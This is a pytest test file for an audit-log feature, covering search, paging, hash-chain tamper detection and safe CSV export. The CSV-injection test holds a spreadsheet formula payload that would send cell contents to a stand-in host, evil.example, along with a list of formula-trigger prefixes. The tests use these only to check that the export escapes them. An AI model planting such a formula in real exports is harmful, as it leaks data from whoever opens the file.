"""The auditor's pages: what is sought is found, the chain is walked, and what is taken out is noted and harmless."""

import csv
import io
from datetime import date

import pytest
from sqlalchemy import text

from dispatch.audit import Deed, note, verify
from dispatch.auditing.look import PAGE, Sought, look_through
from dispatch.cells import harmless
from dispatch.hall_time import SHANGHAI
from dispatch.staff.role import Role


def _write(world, by, deed, subject, detail=""):
    with world.begin() as session:
        note(world, session, by, deed, subject, detail)


def _subjects(world, **sought):
    return [line.subject for line in look_through(world, Sought(**sought)).lines]


def test_what_is_sought_is_found_newest_first(world):
    _write(world, "li", Deed.REVEAL, "case:1")
    _write(world, "wang", Deed.PRINT, "case:2")
    _write(world, "li", Deed.PRINT, "shipment:3")
    assert _subjects(world) == ["shipment:3", "case:2", "case:1"]
    assert _subjects(world, by="li") == ["shipment:3", "case:1"]
    assert _subjects(world, deed=Deed.PRINT, subject="case:") == ["case:2"]
    assert _subjects(world, subject="ca%") == []
    today = world.now().astimezone(SHANGHAI).date()
    assert len(_subjects(world, day=today)) == 3
    assert _subjects(world, day=date(2020, 1, 1)) == []


def test_the_next_page_begins_where_this_one_ends(world):
    with world.begin() as session:
        for place in range(PAGE + 3):
            note(world, session, "li", Deed.PRINT, f"case:{place}")
    first = look_through(world, Sought())
    second = look_through(world, Sought(), first.before)
    assert [line.seq for line in (*first.lines, *second.lines)] == list(range(PAGE + 3, 0, -1))
    assert second.before is None


def test_the_auditor_filters_by_the_url_and_a_senseless_one_asks_nothing(world, person):
    _write(world, "li", Deed.REVEAL, "case:42", "回访核对")
    auditor = person(Role.AUDITOR)
    page = auditor.get("/console/audit?deed=reveal&by=li&subject=case:42").text
    assert "回访核对" in page
    assert "case:42" not in auditor.get("/console/audit?deed=print").text
    assert auditor.get("/console/audit?day=yesterday&deed=none").status_code == 200
    assert auditor.get("/console/audit?before=-1").status_code == 422  # a page, and none that a link leads to


def test_the_chain_is_walked_at_the_press_of_a_button_and_against_what_was_written_down(world, person):
    auditor = person(Role.AUDITOR)
    anchor = verify(world).head
    assert anchor in auditor.post("/console/audit/verify", {"anchor": anchor}).text
    assert "未见改动" in auditor.post("/console/audit/verify").text
    assert "已不在审计日志里" in auditor.post("/console/audit/verify", {"anchor": "9:0123456789abcdef"}).text
    with world.begin() as session:
        session.execute(text("SET LOCAL session_replication_role = replica"))
        session.execute(text("UPDATE audit_log SET by = 'x' WHERE seq = 1"))
    assert "第 1 条被改动过" in auditor.post("/console/audit/verify").text


def test_an_export_is_noted_and_a_formula_in_it_stays_text(world, person):
    """CSV injection: whoever opens the table must not run what somebody typed."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"看")'
    _write(world, "li", Deed.REVEAL, "case:1", formula)
    auditor = person(Role.AUDITOR)
    answer = auditor.post("/console/audit/export", {"deed": "reveal"})
    assert answer.headers["content-disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert [row[5] for row in rows[1:]] == [f"'{formula}"]
    assert look_through(world, Sought(deed=Deed.EXPORT)).lines[0].by == "auditor"


@pytest.mark.parametrize("text", ["=1+1", "+86", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "＝1", "＠x"])
def test_whatever_a_spreadsheet_would_calculate_is_held_as_text(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "张三", "331127-1", "a=b"])
def test_plain_text_stays_as_it_is(text):
    assert harmless(text) == text
